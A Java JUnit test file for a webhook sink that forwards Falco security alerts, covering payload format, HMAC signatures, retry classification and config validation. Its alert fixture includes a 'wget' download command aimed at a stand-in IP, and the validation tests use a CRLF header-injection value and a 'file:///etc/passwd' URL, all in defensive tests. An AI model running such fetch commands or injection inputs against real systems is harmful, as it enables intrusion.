package dev.vigil.sink.webhook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.alert.Alert;
import dev.vigil.alert.FalcoJson;
import dev.vigil.alert.Priority;
import dev.vigil.sink.LocalReceiver;
import dev.vigil.sink.TestAlerts;
import dev.vigil.sink.delivery.DeliveryException;
import dev.vigil.sink.delivery.Envelope;
import dev.vigil.sink.delivery.RetryAfter;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class WebhookDestinationTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Set<String> PRIORITIES = Set.of("emergency", "alert", "critical", "error", "warning",
      "notice", "informational", "debug");

  private final LocalReceiver receiver;

  WebhookDestinationTest() throws Exception {
    receiver = new LocalReceiver();
  }

  @AfterEach
  void stop() {
    receiver.close();
  }

  private static Alert alert() {
    return TestAlerts.alert("Remote file copy tool launched in container", "0123456789ab", Priority.NOTICE,
        TestAlerts.T0, "wget", "wget -q http://203.0.113.7/x");
  }

  /** Verifies a signature as a receiver would: HMAC over the raw body, compared in constant time. */
  private static boolean verify(String secret, byte[] body, String header) throws Exception {
    if (header == null || !header.startsWith("sha256=")) {
      return false;
    }
    Mac mac = Mac.getInstance("HmacSHA256");
    mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
    byte[] expected = mac.doFinal(body);
    byte[] got = HexFormat.of().parseHex(header.substring(7));
    return MessageDigest.isEqual(expected, got);
  }

  @Test
  void postsExactlyTheFalcoJson_withIdCustomHeadersAndAVerifiableSignature() throws Exception {
    WebhookDestination d = new WebhookDestination("siem", receiver.url("/falco"),
        Map.of("X-Token", "abc", "Authorization", "Bearer t0k"), "shh-secret", Duration.ofSeconds(5), null,
        Clock.systemUTC());
    Alert a = alert();
    d.deliver(List.of(new Envelope("5b4cbb56-2b76-4e7c-9d3c-0d1f1f4c9a11", a)));

    LocalReceiver.Request r = receiver.requests.get(0);
    assertThat(r.method()).isEqualTo("POST");
    // the body's uuid and the id header are the same id
    assertThat(r.text()).isEqualTo(FalcoJson.toJson(a.withId("5b4cbb56-2b76-4e7c-9d3c-0d1f1f4c9a11")))
        .contains("\"uuid\":\"5b4cbb56-2b76-4e7c-9d3c-0d1f1f4c9a11\"");
    assertThat(r.header("Content-Type")).isEqualTo("application/json");
    assertThat(r.header("X-Token")).isEqualTo("abc");
    assertThat(r.header("Authorization")).isEqualTo("Bearer t0k");
    assertThat(r.header("X-Vigil-Alert-Id")).isEqualTo("5b4cbb56-2b76-4e7c-9d3c-0d1f1f4c9a11");
    assertThat(verify("shh-secret", r.body(), r.header("X-Vigil-Signature"))).isTrue();
    assertThat(verify("other-secret", r.body(), r.header("X-Vigil-Signature"))).isFalse();
    byte[] tampered = r.text().replace("Notice", "Debug").getBytes(StandardCharsets.UTF_8);
    assertThat(verify("shh-secret", tampered, r.header("X-Vigil-Signature"))).isFalse();
  }

  @Test
  void payload_passesFalcosidekicksInputCheck() throws Exception {
    // falcosidekick's "/" input decodes output, priority, rule, time (RFC 3339), output_fields, source, tags and
    // hostname, and rejects a payload without priority, rule, time or output_fields.
    new WebhookDestination("fsk", receiver.url("/"), Map.of(), null, Duration.ofSeconds(5), null, Clock.systemUTC())
        .deliver(List.of(new Envelope("id", alert())));
    JsonNode p = JSON.readTree(receiver.requests.get(0).body());
    assertThat(p.path("output").isTextual()).isTrue();
    assertThat(PRIORITIES).contains(p.path("priority").asText().toLowerCase(java.util.Locale.ROOT));
    assertThat(p.path("rule").asText()).isNotEmpty();
    assertThat(OffsetDateTime.parse(p.path("time").asText()).toInstant()).isEqualTo(TestAlerts.T0);
    assertThat(p.path("output_fields").isObject()).isTrue();
    assertThat(p.path("output_fields").size()).isPositive();
    assertThat(p.path("source").asText()).isEqualTo("syscall");
    assertThat(p.path("tags").isArray()).isTrue();
    assertThat(p.path("hostname").asText()).isEqualTo("host-1");
    assertThat(receiver.requests.get(0).header("X-Vigil-Signature")).isNull();
  }

  @Test
  void hmac_matchesAKnownVector() {
    // RFC 4231 test case 2
    assertThat(WebhookDestination.hmacHex("Jefe".getBytes(StandardCharsets.UTF_8),
        "what do ya want for nothing?".getBytes(StandardCharsets.UTF_8)))
        .isEqualTo("5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
  }

  @Test
  void statusClassification() {
    WebhookDestination d = new WebhookDestination("c", receiver.url("/"), Map.of(), null, Duration.ofSeconds(5),
        null, Clock.systemUTC());
    List<Envelope> one = List.of(new Envelope("id", alert()));
    record Case(int status, boolean retryable) {}
    for (Case c : List.of(new Case(500, true), new Case(502, true), new Case(503, true), new Case(408, true),
        new Case(429, true), new Case(401, true), new Case(403, true), new Case(400, false), new Case(404, false),
        new Case(413, false), new Case(422, false))) {
      receiver.answer = LocalReceiver.Answer.status(c.status(), "");
      assertThatThrownBy(() -> d.deliver(one)).as("HTTP " + c.status())
          .isInstanceOfSatisfying(DeliveryException.class, e -> assertThat(e.retryable()).isEqualTo(c.retryable()));
    }
    receiver.answer = LocalReceiver.Answer.status(204, "");
    org.assertj.core.api.Assertions.assertThatCode(() -> d.deliver(one)).doesNotThrowAnyException();
  }

  @Test
  void retryAfterAsAnHttpDate_isHonouredToo() {
    Clock fixed = Clock.fixed(java.time.Instant.parse("2026-03-01T10:00:00Z"), java.time.ZoneOffset.UTC);
    receiver.answer = new LocalReceiver.Answer(503, "", Map.of("Retry-After", "Sun, 01 Mar 2026 10:00:30 GMT"),
        false);
    WebhookDestination d = new WebhookDestination("c", receiver.url("/"), Map.of(), null, Duration.ofSeconds(5),
        null, fixed);
    assertThatThrownBy(() -> d.deliver(List.of(new Envelope("id", alert()))))
        .isInstanceOfSatisfying(DeliveryException.class,
            e -> assertThat(RetryAfter.of(e)).isEqualTo(Duration.ofSeconds(30)));
  }

  @Test
  void hugeResponseBody_isReadOnlyInPart() {
    receiver.answer = LocalReceiver.Answer.status(400, "x".repeat(5_000_000));
    WebhookDestination d = new WebhookDestination("c", receiver.url("/"), Map.of(), null, Duration.ofSeconds(5),
        null, Clock.systemUTC());
    assertThatThrownBy(() -> d.deliver(List.of(new Envelope("id", alert()))))
        .isInstanceOfSatisfying(DeliveryException.class, e -> assertThat(e.getMessage().length()).isLessThan(400));
  }

  @Test
  void badConfiguration_isRefused_withoutQuotingSecrets() {
    assertThatThrownBy(() -> new WebhookDestination("w", "http://h/p", Map.of("Host", "x"), null,
        Duration.ofSeconds(1), null, Clock.systemUTC())).hasMessageContaining("Host");
    assertThatThrownBy(() -> new WebhookDestination("w", "http://h/p", Map.of("X-A", "v\r\nX-Evil: 1"), null,
        Duration.ofSeconds(1), null, Clock.systemUTC())).hasMessageContaining("line break")
        .hasMessageNotContaining("X-Evil");
    assertThatThrownBy(() -> new WebhookDestination("w", "file:///etc/passwd?token=s3cr3t", Map.of(), null,
        Duration.ofSeconds(1), null, Clock.systemUTC())).hasMessageNotContaining("s3cr3t");
    WebhookDestination ok = new WebhookDestination("siem", "https://siem.example:8443/in?token=s3cr3t", Map.of(),
        null, Duration.ofSeconds(1), null, Clock.systemUTC());
    assertThat(ok.name()).isEqualTo("webhook:siem");
    assertThat(ok.toString()).isEqualTo("webhook:siem(siem.example:8443)");
  }
}
